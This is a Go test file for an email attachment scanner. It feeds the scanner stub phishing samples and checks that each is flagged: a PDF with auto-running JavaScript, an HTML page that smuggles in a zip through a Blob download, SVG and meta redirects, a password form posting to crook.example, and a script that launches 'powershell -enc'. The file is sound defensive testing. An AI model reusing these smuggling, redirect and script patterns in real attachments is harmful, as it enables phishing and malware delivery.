package attachment

import (
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"asterism/attachment/archive/archivetest"
	"asterism/attachment/hostiletest"
	"asterism/message"
	"asterism/test/tool"
)

// page is a PDF whose page says a word and links to a host.
const page = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 " +
	"R/OpenAction<</S/JavaScript/JS(this.exportDataObject\\({cName:'x'}\\))>>>>endobj\n" +
	"2 0 obj<</Type/Pages/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Contents 4 0 " +
	"R/Annots[<</A<</S/URI/URI(http://crook.example/a)>>>>]>>endobj\n" +
	"4 0 obj<</Length 46>>stream\nBT (Overdue invoice, see pay.example.com/b) Tj ET\nendstream endobj\n" +
	"trailer<</Root 1 0 R>>\n%%EOF\n"

// smuggler is a page that puts a file together in the browser.
const smuggler = `<html><body>Overdue invoice <a href="http://crook.example/a">x</a><script>var b=new ` +
	`Blob([Uint8Array.from(atob("UEsDBA"),c=>c.charCodeAt(0))]);` +
	`var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="a.zip";a.click()</script></body></html>`

// qr returns the picture that qrencode makes of a link.
func qr(t *testing.T, link string) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "a.png")
	if out, err := exec.Command(tool.Path(t, "qrencode", "qrencode"), "-o", file, link).CombinedOutput(); err != nil {
		t.Fatalf("qrencode: %v %s", err, out)
	}
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestDocuments: text and links of documents are found, attached and inside archives, with their kinds and traits.
func TestDocuments(t *testing.T) {
	const overdue, crook = "Overdue invoice", "crook.example"
	rels := `<Relationships><Relationship Type="x/attachedTemplate" Target="http://crook.example/a" ` +
		`TargetMode="External"/></Relationships>`
	docx := string(archivetest.Zip("[Content_Types].xml", "<x/>", "word/document.xml",
		"<w:p><w:t>Overdue</w:t><w:t> invoice</w:t></w:p>", "word/_rels/s.rels", rels))
	letter := "From: a@a.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=c\n\n--c\n" +
		"Content-Type: text/plain\n\n" +
		"Overdue invoice http://crook.example/a\n--c\nContent-Type: application/octet-stream; name=b.exe\n\nMZ\n--c--\n"
	for _, c := range []struct {
		name, content string
		kind          Kind
		traits        Trait
		text          string
		hosts         []string
	}{
		{"a.pdf", page, PDF, JavaScript | AutoRun | Suspicious, overdue, []string{crook, "pay.example.com"}},
		{"a.dat", page, PDF, JavaScript | AutoRun | Suspicious, overdue, []string{crook, "pay.example.com"}},
		{"a.docx", docx, OOXML, Template, overdue, []string{crook}},
		{"a.rtf", `{\rtf1{\field{\*\fldinst{HYPERLINK "http://crook.example/a"}}{\fldrslt Overdue invoice}}}`, RTF, 0,
			overdue, []string{crook}},
		{"a.rtf", `{\rtf1{\object\objemb{\*\objdata 0105}}}`, RTF, Embedded, "", nil},
		{"a.eml", letter, Mail, 0, overdue, []string{crook}},
		{"a.vcf", "BEGIN:VCARD\nFN:Overdue\n  invoice\nURL:http://crook.example/a\nEND:VCARD\n", VCard, 0, overdue,
			[]string{crook}},
		{"a.url", "[InternetShortcut]\nURL=http://crook.example/a\n", Shortcut, BadName, "", []string{crook}},
		{"a.svg", `<svg xmlns="x"><a xlink:href="http://crook.example/a"><text>Overdue ` +
			`invoice</text></a><script>location.href="http://two.example/b"</script></svg>`,
			SVG, JavaScript | Redirect, overdue, []string{crook, "two.example"}},
		{"a.js", `new ActiveXObject("WScript.Shell").Run("powershell -enc x")`, Script, BadName | Suspicious, "", nil},
	} {
		for _, packed := range []bool{false, true} {
			name, content := c.name, []byte(c.content)
			if packed {
				name, content = "a.zip", archivetest.Zip(c.name, c.content)
			}
			found := opened(name, content)
			var f *File
			for _, each := range found.Files {
				if each.Name == c.name {
					f = each
				}
			}
			if f == nil || f.Kind != c.kind || f.Traits != c.traits || !strings.Contains(found.Text(), c.text) {
				t.Errorf("%s in %s: %+v %q", c.name, name, f, found.Text())
				continue
			}
			hosts := map[string]bool{}
			for _, u := range found.URIs {
				hosts[u.Host] = u.Source == message.SourceAttachment
			}
			for _, h := range c.hosts {
				if !hosts[h] {
					t.Errorf("%s in %s: no %s in %v", c.name, name, h, hosts)
				}
			}
		}
	}
}

// TestPages: pages that put files together, send the reader elsewhere or ask for passwords. The text and links of an
// attached page are the mail's own, and kept by package message; inside an archive they are kept here.
func TestPages(t *testing.T) {
	for source, want := range map[string]Trait{
		smuggler: JavaScript | Smuggling,
		`<html><a download="a.iso" href="data:application/octet-stream;base64,AAAA">x</a>`: Smuggling,
		`<html><script>document.write(atob("PGh0bWw+"))</script>`: JavaScript |
			Suspicious,
		`<html><meta http-equiv="refresh" content="0;url=http://crook.example/">`: Redirect,
		`<html><script>window.location.replace("http://crook.example/")</script>`: JavaScript |
			Redirect,
		`<html><form action="http://crook.example/"><input name=u><input type=password name=p></form></html>`: Form |
			Password,
		`<html><body onload="x()">hello`:                                               JavaScript,
		`<html><p>hello <a href="http://a.example/">x</a> at this location = here</p>`: 0,
	} {
		found := opened("a.html", []byte(source))
		if f := found.Files[0]; f.Kind != HTML || f.Traits != want || f.Text != "" {
			t.Errorf("%.80s: %s %q, want %q", source, f.Kind, f.Traits, want)
		}
		found = opened("a.zip", archivetest.Zip("a.html", source))
		if f := found.Files[1]; f.Traits != want {
			t.Errorf("%.80s in an archive: %q, want %q", source, f.Traits, want)
		}
	}
	if found := opened("a.zip", archivetest.Zip("a.html", smuggler)); !strings.Contains(found.Text(), "Overdue") ||
		len(found.URIs) == 0 {
		t.Errorf("%q %v", found.Text(), found.URIs)
	}
}

// TestCodes: a QR code's link is found in a mail of few words, and not looked for in one of many.
func TestCodes(t *testing.T) {
	picture := qr(t, "https://crook.example/login")
	found := opened("a.png", []byte(picture))
	if f := found.Files[0]; f.Traits != Code || len(found.URIs) != 1 || found.URIs[0].Host != "crook.example" ||
		f.Width < 50 {
		t.Errorf("%+v %v", f, found.URIs)
	}
	raw := strings.Replace(string(carrying("a.png", []byte(picture))), "see papers", strings.Repeat("many words ", 200), 1)
	if c := Of(message.Parse([]byte(raw), Open(timeless()))); c.Files[0].Traits != 0 {
		t.Errorf("%q in a mail of many words", c.Files[0].Traits)
	}
	pixel, _ := base64.StdEncoding.DecodeString("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
	if f := opened("a.gif", pixel).Files[0]; f.Traits != Pixel {
		t.Errorf("a pixel: %q", f.Traits)
	}
}

// TestShare: the text that is kept of all attachments is bounded, and a mail without any opens none.
func TestShare(t *testing.T) {
	many := []string{}
	for range 50 {
		many = append(many, "a.txt", strings.Repeat("many words ", 10000))
	}
	if n := len(opened("a.zip", archivetest.Zip(many...)).Text()); n > maxText+1000 {
		t.Errorf("%d octets of text", n)
	}
	if c := Of(message.Parse([]byte("Subject: x\n\nhello\n"), Open(timeless()))); c != none {
		t.Errorf("%+v", c)
	}
}

// FuzzOpen opens whatever it is given, under names that choose the reader.
func FuzzOpen(f *testing.F) {
	for name, content := range map[string]string{"a.pdf": page, "a.html": smuggler, "a.rtf": `{\rtf1 x}`,
		"a.vcf": "BEGIN:VCARD\nURL:http://a.b\n",
		"a.url": "[InternetShortcut]\nURL=x", "a.zip": string(archivetest.Zip("a.pdf", page)),
		"a.svg": "<svg><script>eval(atob('x'))</script></svg>",
		"a.eml": "Subject: x\n\nx", "a.tar": strings.Repeat("\x00", 257) + "ustar", "a.gz": "\x1f\x8b\x08",
		"a.7z":  "7z\xbc\xaf\x27\x1c\x00\x04",
		"a.rar": "Rar!\x1a\x07\x01\x00", "a.iso": strings.Repeat("\x00", isoAt) + "CD001", "a.cab": "MSCF\x00\x00\x00\x00"} {
		f.Add(name, []byte(content))
	}
	for _, s := range hostiletest.Samples() {
		f.Add(s.Name, s.Build(0))
	}
	limits := timeless()
	limits.Bytes = 1 << 20
	f.Fuzz(func(_ *testing.T, name string, content []byte) {
		Of(message.Parse(carrying(name, content), Open(limits)))
	})
}
